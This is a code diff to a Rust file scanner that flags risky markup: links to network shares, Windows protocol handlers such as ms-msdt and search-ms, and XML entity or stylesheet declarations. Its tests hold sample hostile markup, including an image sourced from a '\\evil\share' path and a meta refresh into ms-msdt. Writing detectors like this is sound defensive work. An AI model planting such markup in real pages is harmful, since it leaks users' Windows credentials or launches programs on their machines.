@@ -32,6 +32,11 @@ const SCRIPT_SCHEMES: [&[u8]; 4] = [
     b"livescript:",
     b"data:text/html",
 ];
+/// URL schemes that start a program on the reader's machine (Windows protocol handlers: the
+/// `ms-` family, search, the help and archive readers) rather than open a page.
+const HANDLER_SCHEMES: [&str; 7] = ["search-ms", "search", "mhtml", "mk", "its", "hcp", "jar"];
+/// Kept of the start of an attribute value, for where it leads.
+const VALUE_START: usize = 256;
 /// Kept of a decoded attribute value: the longest scheme.
 const SCHEME_WINDOW: usize = 16;
 /// Element and attribute names longer than this are not ones a browser acts on.
@@ -93,11 +98,25 @@ struct Reader {
     decoded: Vec<u8>,
     /// A character reference being read (after `&`) in a value.
     reference: Option<Vec<u8>>,
+    /// The start of the value, decoded, for where it leads.
+    value_start: Vec<u8>,
 }
+
+/// Declarations that make a browser or Office build the document from the file's own program
+/// or definitions, found anywhere (in lower case): what they would make cannot be checked here.
+const DECLARATIONS: [(&[u8], FileMsg); 4] = [
+    (b"<!entity", FileMsg::MarkupEntities),
+    (b"<?xml-stylesheet", FileMsg::MarkupStylesheet),
+    (b"<?mso-application", FileMsg::OfficeAsText),
+    (b"urn:schemas-microsoft-com:office:", FileMsg::OfficeAsText),
+];
+/// Kept of one chunk for the next, for a declaration cut between them.
+const CARRY: usize = 40;
 
 #[derive(Default)]
 pub struct MarkupScanner {
     readers: Option<[Reader; 2]>,
+    carry: Vec<u8>,
     found: Vec<FileMsg>,
 }
 
@@ -111,6 +130,14 @@ impl MarkupScanner {
                 reader.feed(byte.to_ascii_lowercase(), &mut self.found);
             }
         }
+        let mut window = std::mem::take(&mut self.carry);
+        window.extend(chunk.iter().map(u8::to_ascii_lowercase));
+        for (declaration, reason) in &DECLARATIONS {
+            if window.windows(declaration.len()).any(|w| w == *declaration) {
+                find(&mut self.found, reason.clone());
+            }
+        }
+        self.carry = window[window.len().saturating_sub(CARRY)..].to_vec();
     }
 
     /// What was found, each reason once.
@@ -137,6 +164,30 @@ fn attributes(element: Vec<u8>) -> Tag {
     }
 }
 
+/// Where a URL leads that a page must not: a network share (`\\\\host\\share`, `//host/`, or
+/// `file://host/`, which hand the reader's Windows credentials to that host), or a protocol
+/// handler that starts a program.
+fn reaches_out(target: &str) -> Option<String> {
+    let target = target.trim_start_matches(|c: char| c.is_whitespace() || c == '\'' || c == '"');
+    let network = target.starts_with("\\\\")
+        || target.starts_with("//")
+        || target.starts_with("\\/")
+        || target.starts_with("/\\")
+        || target.strip_prefix("file:").is_some_and(|rest| {
+            let rest = rest.replace('\\', "/");
+            rest.starts_with("//") && !rest.starts_with("///")
+        });
+    if network {
+        return Some(target.chars().take(40).collect());
+    }
+    let (scheme, _) = target.split_once(':')?;
+    let is_scheme = scheme
+        .chars()
+        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
+    let handler = scheme.starts_with("ms-") || HANDLER_SCHEMES.contains(&scheme);
+    (is_scheme && handler).then(|| format!("{scheme}:"))
+}
+
 /// `on` and at least two letters: every event attribute, present and future.
 fn is_event(attribute: &[u8]) -> bool {
     attribute.len() >= 4
@@ -151,6 +202,7 @@ impl Reader {
             tag: Tag::Text,
             decoded: Vec::new(),
             reference: None,
+            value_start: Vec::new(),
         }
     }
 
@@ -254,18 +306,25 @@ impl Reader {
     fn attribute(&mut self, byte: u8, found: &mut Vec<FileMsg>) {
         let html = self.reading == Reading::Html;
         let Tag::Attributes {
-            element,
             attribute,
             ended,
             value,
+            ..
         } = &mut self.tag
         else {
             return;
         };
+        let unquoted = matches!(value, Value::Unquoted);
         match value {
-            Value::Quoted(quote) if byte == *quote => *value = Value::None,
+            Value::Quoted(quote) if byte == *quote => {
+                *value = Value::None;
+                self.end_value(found);
+            }
             Value::Quoted(_) => self.value_byte(byte, found),
-            Value::Unquoted if byte.is_ascii_whitespace() => *value = Value::None,
+            Value::Unquoted if byte.is_ascii_whitespace() => {
+                *value = Value::None;
+                self.end_value(found);
+            }
             Value::Unquoted if byte != b'>' => self.value_byte(byte, found),
             Value::Next if byte.is_ascii_whitespace() => {}
             Value::Next if matches!(byte, b'"' | b'\'') => {
@@ -279,6 +338,12 @@ impl Reader {
             }
             _ => match byte {
                 b'>' => {
+                    if unquoted {
+                        self.end_value(found);
+                    }
+                    let Tag::Attributes { element, .. } = &mut self.tag else {
+                        return;
+                    };
                     let element = std::mem::take(element);
                     let local = element.rsplit(|&b| b == b':').next().unwrap_or(&element);
                     self.tag = if html && RAW_TEXT_ELEMENTS.contains(&local) {
@@ -315,7 +380,21 @@ impl Reader {
 
     fn start_value(&mut self) {
         self.decoded.clear();
+        self.value_start.clear();
         self.reference = None;
+    }
+
+    /// A whole attribute value: where it leads, from its start (or after a refresh's `url=`).
+    fn end_value(&mut self, found: &mut Vec<FileMsg>) {
+        self.end_reference(found);
+        let value = String::from_utf8_lossy(&self.value_start).into_owned();
+        let after_url = value.split_once("url=").map(|(_, rest)| rest);
+        for target in [Some(value.as_str()), after_url].into_iter().flatten() {
+            if let Some(what) = reaches_out(target) {
+                find(found, FileMsg::MarkupReaches { what });
+            }
+        }
+        self.value_start.clear();
     }
 
     /// A byte of an attribute value, read for script URLs with its references decoded.
@@ -376,6 +455,9 @@ impl Reader {
     fn decoded_byte(&mut self, byte: u8, found: &mut Vec<FileMsg>) {
         if matches!(byte, b'\t' | b'\n' | b'\r') {
             return;
+        }
+        if self.value_start.len() < VALUE_START {
+            self.value_start.push(byte);
         }
         self.decoded.push(byte);
         if self.decoded.len() > 2 * SCHEME_WINDOW {
@@ -456,6 +538,35 @@ mod tests {
         ] {
             assert_eq!(found(text), event, "{text}");
         }
+    }
+
+    #[test]
+    fn network_shares_handlers_and_own_definitions_are_found() {
+        let reaches = |what: &str| vec![FileMsg::MarkupReaches { what: what.into() }];
+        assert_eq!(
+            found(r#"<img src="\\evil\share\x.png">"#),
+            reaches(r"\\evil\share\x.png")
+        );
+        assert_eq!(
+            found("<img src=file://evil/s/x.png>"),
+            reaches("file://evil/s/x.png")
+        );
+        assert_eq!(
+            found(r#"<meta http-equiv="refresh" content="0;url=ms-msdt:/id x">"#),
+            reaches("ms-msdt:")
+        );
+        assert_eq!(found("<a href='search-ms:query=x'>"), reaches("search-ms:"));
+        assert_eq!(
+            found("<!DOCTYPE svg [<!ENTITY e \"x\">]><svg>&e;</svg>"),
+            vec![FileMsg::MarkupEntities]
+        );
+        assert_eq!(
+            found("<?xml-stylesheet href=\"#s\"?><doc/>"),
+            vec![FileMsg::MarkupStylesheet]
+        );
+        // A page's own links and local files lead nowhere they must not.
+        let kept = r#"<a href="https://www.saac.gov.cn/">国家档案局</a><img src="file:///C:/图/1.png"><a href="附件/说明.pdf">"#;
+        assert_eq!(found(kept), vec![]);
     }
 
     #[test]
